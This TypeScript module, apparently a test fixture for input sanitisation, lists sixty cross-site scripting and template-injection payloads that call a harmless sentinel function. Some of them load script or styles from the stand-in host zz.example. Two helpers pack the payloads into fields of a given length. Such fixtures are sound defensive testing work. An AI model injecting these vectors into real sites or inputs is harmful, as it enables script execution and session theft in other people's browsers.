/**
 * Sixty ways in which words run where they are taken for a page, a link, a style or a template. Each would call `zz`.
 * (A11, HD2)
 */
export const PAYLOADS: readonly string[] = [
  ...[
    '<script>zz(1)</script>',
    '<ScRiPt src=//zz.example/z.js></sCrIpT>',
    '"><script>zz(1)</script>',
    '</script><script>zz(1)</script>',
  ],
  ...[
    "'><script>zz(1)</script>",
    '</title><script>zz(1)</script>',
    '</textarea><script>zz(1)</script>',
    '<<script>zz(1)//<</script>',
  ],
  ...[
    '<script/x>zz(1)</script >',
    '<img src=x onerror=zz(1)>',
    '<img src=x onerror="zz(1)">',
    '"><img src=x onerror=zz(1)>',
  ],
  ...[
    '\'"--><img src=x onerror=zz(1)>',
    '<img/src=x/onerror=zz(1)>',
    '<img src="x" onerror="&#122;z(1)">',
    '<IMG SRC=javascript:zz(1)>',
  ],
  ...[
    '<svg onload=zz(1)>',
    '<svg/onload=zz(1)>',
    '<svg><script>zz(1)</script></svg>',
    '<svg><a xlink:href="javascript:zz(1)">z</a></svg>',
  ],
  ...[
    '<svg><animate onbegin=zz(1) attributeName=x dur=1s>',
    '<svg><use href="data:image/svg+xml,<svg onload=zz(1)>">',
    '<math><a href="javascript:zz(1)">z</a></math>',
  ],
  ...[
    '<body onload=zz(1)>',
    '<iframe src="javascript:zz(1)"></iframe>',
    '<iframe srcdoc="<script>parent.zz(1)</script>"></iframe>',
  ],
  ...[
    '<object data="javascript:zz(1)"></object>',
    '<embed src="javascript:zz(1)">',
    '<a href="javascript:zz(1)">z</a>',
    '<a href="JaVaScRiPt:zz(1)">z</a>',
  ],
  ...[
    '<a href="java&#10;script:zz(1)">z</a>',
    '<a href="data:text/html,<script>zz(1)</script>">z</a>',
    'javascript:zz(1)',
    'data:text/html,<script>zz(1)</script>',
  ],
  ...[
    '<form action="javascript:zz(1)"><button>z</button></form>',
    '<button formaction="javascript:zz(1)">z</button>',
    '<input autofocus onfocus=zz(1)>',
  ],
  ...[
    '<select autofocus onfocus=zz(1)>',
    '<details open ontoggle=zz(1)>',
    '<video src=x onerror=zz(1)>',
    '<audio src=x onerror=zz(1)>',
  ],
  ...[
    '<marquee onstart=zz(1)>',
    '<div onpointerenter=zz(1) style="position:fixed;inset:0">',
    '<style>@import "//zz.example";</style>',
  ],
  ...[
    '<style>*{background:url(//zz.example/z)}</style>',
    '<link rel=stylesheet href=//zz.example/z.css>',
    '<base href="//zz.example/">',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=javascript:zz(1)">',
    '<template><img src=x onerror=zz(1)></template>',
    '<noscript><p title="</noscript><img src=x onerror=zz(1)>">',
  ],
  ...['<!--><img src=x onerror=zz(1)>-->', '{{constructor.constructor("zz(1)")()}}', '${zz(1)}'],
  ...[
    '<%= zz(1) %>',
    '[z](javascript:zz(1))',
    '![z](x" onerror="zz(1))',
    '\\u003cimg src=x onerror=zz(1)\\u003e',
  ],
  ...[
    '&lt;img src=x onerror=zz(1)&gt;',
    '%3Cimg%20src=x%20onerror=zz(1)%3E',
    '{name, plural, other {<img src=x onerror=zz(1)>}}',
  ],
]

/** As many of them as fit into a field, beginning at one of them. */
export function payloadsOf(longest: number, from = 0): string {
  const turned = [...PAYLOADS.slice(from % PAYLOADS.length), ...PAYLOADS.slice(0, from % PAYLOADS.length)]
  let words = ''
  for (const payload of turned) if (words.length + payload.length < longest) words += `${payload} `
  return words.trim()
}

/** All of them, in as many fields of a length as they need. */
export function payloadsApart(longest: number): readonly string[] {
  const parts: string[] = ['']
  for (const payload of PAYLOADS) {
    const last = parts.length - 1
    if ((parts[last]?.length ?? 0) + payload.length >= longest) parts.push(payload)
    else parts[last] = `${parts[last] ?? ''} ${payload}`.trim()
  }
  return parts
}
